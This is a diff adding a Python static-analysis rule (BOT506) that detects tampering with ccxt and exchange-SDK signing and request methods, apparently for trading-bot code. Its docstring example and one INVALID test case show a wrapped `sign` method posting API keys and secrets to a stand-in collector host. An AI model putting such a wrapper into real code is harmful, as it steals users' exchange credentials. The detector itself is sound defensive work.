@@ -1,0 +1,181 @@
+"""BOT506: an exchange library's signing or request methods replaced or wrapped."""
+from __future__ import annotations
+
+from typing import List, Optional
+
+import libcst as cst
+
+from ... import venues
+from ...analysis.clients import ClientTracker
+from ...analysis.imports import dotted
+from ...analysis.syntax import LiteralPrecheck
+from ...model import Severity
+from ._family import Bot5Walk, is_network_call, obfuscated_str
+
+PRECHECK = LiteralPrecheck(("ccxt", "setattr", "sign", "request", "describe", "fetch"))
+
+# methods through which every key, signature or request of a client passes
+TAMPER_METHODS = frozenset(
+    """sign request fetch fetch2 describe sign_request handle_errors _request _sign _generate_signature
+    _create_signature create_signature _request_api _signed_request _send_request send_request api_request
+    private_request _init_session hmac set_credentials""".split()
+)
+_CCXT_ONLY = frozenset(("__init__",))
+
+
+class ExchangeLibraryTampering(Bot5Walk):
+    """## What it does
+    Finds code that replaces or wraps the methods an exchange library signs and sends requests
+    with: assignments and `setattr` on a ccxt class or module (`ccxt.Exchange.sign = ...`,
+    `setattr(ccxt.binance, "request", f)`), on an SDK client class, or on a client object
+    (`exchange.sign = my_sign`), and subclasses of a ccxt exchange that override `sign`,
+    `request`, `fetch`, `fetch2` or `describe` with code that makes a network request of its
+    own (`requests`, `urllib`, `socket`, a chat API).
+
+    ## Why is this bad?
+    Every API key, secret and signed request of the client passes through these methods.  A
+    "plugin" that patches them can copy your keys to the author's server while the bot trades
+    normally; the trojanised `ccxt-mexc-futures` package did this to ccxt's mexc `describe`
+    and `sign` to redirect requests and capture keys.
+
+    ## Example
+    ```python
+    _orig = ccxt.Exchange.sign
+    def sign(self, *args, **kw):
+        requests.post("https://collector.example.net", json={"k": self.apiKey, "s": self.secret})
+        return _orig(self, *args, **kw)
+    ccxt.Exchange.sign = sign
+    ```
+
+    ## Use instead
+    ```python
+    exchange = ccxt.binance({"apiKey": key, "secret": secret})  # use the library as shipped
+    ```
+
+    ## Known problems
+    Test doubles are not reported when the value is a mock (`MagicMock()`, `AsyncMock()`,
+    `mocker.patch...`).  An override that sends data through a helper defined elsewhere is not
+    seen.
+
+    ## References
+    - [CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)
+    - [Socket: malicious PyPI package ccxt-mexc-futures targets crypto traders](https://socket.dev/blog/)
+    """
+
+    CODE = "BOT506"
+    NAME = "exchange-library-tampering"
+    SEVERITY = Severity.CRITICAL
+    CWE = 506
+    MESSAGE = "Exchange library's signing or request method replaced"
+    PRECHECK = PRECHECK
+    ANALYSES = ("clients",)
+    VALID = (
+        'import ccxt\nclass Bot:\n    def sign(self, payload):\n        return payload\n\nbot = Bot()\nbot.sign = print\n',
+        'import ccxt\nfrom unittest.mock import MagicMock\nex = ccxt.binance()\nex.fetch = MagicMock()\n',
+        'import ccxt\nclass MyBinance(ccxt.binance):\n    def describe(self):\n'
+        '        return self.deep_extend(super().describe(), {"options": {"defaultType": "future"}})\n',
+    )
+    INVALID = (
+        'import ccxt\n\ndef spy(self, *a, **k):\n    return None\n\nccxt.Exchange.sign = spy\n',
+        'import ccxt\nsetattr(ccxt.binance, "request", lambda *a, **k: None)\n',
+        'import ccxt\nex = ccxt.binance({"apiKey": k, "secret": s})\nex.sign = my_sign\n',
+        'import ccxt, requests\nclass binance(ccxt.binance):\n    def sign(self, path, *args, **kw):\n'
+        '        requests.post("https://c.example.net", json={"k": self.apiKey, "s": self.secret})\n'
+        '        return super().sign(path, *args, **kw)\n',
+    )
+
+    def __init__(self, ctx) -> None:
+        super().__init__(ctx)
+        self.tracker = ClientTracker.shared(ctx)
+        self.assigns: List[tuple] = []
+        self.overrides: List[tuple] = []
+        self.class_stack: List[Optional[str]] = []
+
+    def visit_Assign(self, node: cst.Assign) -> None:
+        super().visit_Assign(node)
+        for t in node.targets:
+            target = t.target
+            if isinstance(target, cst.Attribute) and (target.attr.value in TAMPER_METHODS | _CCXT_ONLY):
+                self.assigns.append((node, target.value, target.attr.value, node.value))
+
+    def visit_Call(self, node: cst.Call) -> None:
+        if dotted(node.func) == "setattr" and len(node.args) >= 3:
+            self.assigns.append((node, node.args[0].value, node.args[1].value, node.args[2].value))
+
+    def visit_ClassDef(self, node: cst.ClassDef) -> None:
+        super().visit_ClassDef(node)
+        base = None
+        for b in node.bases:
+            r = self.ctx.qualified(b.value) or ""
+            if r.split(".")[0] == "ccxt":
+                base = r
+        self.class_stack.append(base)
+
+    def leave_ClassDef(self, original_node: cst.ClassDef) -> None:
+        self.class_stack.pop()
+
+    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
+        super().visit_FunctionDef(node)
+        if self.class_stack and self.class_stack[-1] and node.name.value in TAMPER_METHODS:
+            self.overrides.append((node, self.class_stack[-1]))
+
+    def leave_Module(self, original_node: cst.Module) -> None:
+        for node, recv, attr_node, value in self.assigns:
+            attr = attr_node if isinstance(attr_node, str) else obfuscated_str(attr_node, self.names)[0]
+            if not attr or _is_mock(value):
+                continue
+            owner = self._owner(recv, attr)
+            if owner:
+                self.report(node, f"replaces `{attr}` of {owner}: every key and signed request of the client "
+                                  "passes through it")
+        for fn, base in self.overrides:
+            sends = _network_call(fn, self.ctx)
+            if sends:
+                self.report(fn, f"overrides `{fn.name.value}` of {base} with code that makes its own network request "
+                                f"({sends}): the client's keys and requests can be copied elsewhere")
+
+    def _owner(self, recv: cst.CSTNode, attr: str) -> Optional[str]:
+        resolved = self.ctx.qualified(recv) or ""
+        head = resolved.split(".")[0]
+        if head == "ccxt":
+            return resolved
+        if attr in _CCXT_ONLY:
+            return None
+        if resolved and venues.sdk_by_head(head) and resolved != head:
+            return resolved
+        clients = self.tracker.clients_of(recv)
+        if clients:
+            return "the " + sorted(c.label for c in clients)[0] + " client"
+        return None
+
+
+def _is_mock(value: cst.CSTNode) -> bool:
+    stack: List[cst.CSTNode] = [value]
+    while stack:
+        n = stack.pop()
+        if isinstance(n, cst.Call):
+            name = dotted(n.func) or ""
+            if "mock" in name.lower() or "patch" in name.lower():
+                return True
+            stack.append(n.func)
+        elif isinstance(n, cst.Name) and "mock" in n.value.lower():
+            return True
+        elif isinstance(n, cst.Attribute):
+            stack.append(n.value)
+    return False
+
+
+def _network_call(fn: cst.FunctionDef, ctx) -> str:
+    """The first network call inside ``fn`` that is not the client's own (``self.``/``super()``)."""
+    found: List[str] = []
+
+    class _Calls(cst.CSTVisitor):
+        def visit_Call(self, node: cst.Call) -> None:
+            if found:
+                return
+            name = ctx.qualified(node.func) or ""
+            if is_network_call(name):
+                found.append(name)
+
+    fn.body.visit(_Calls())
+    return found[0] if found else ""
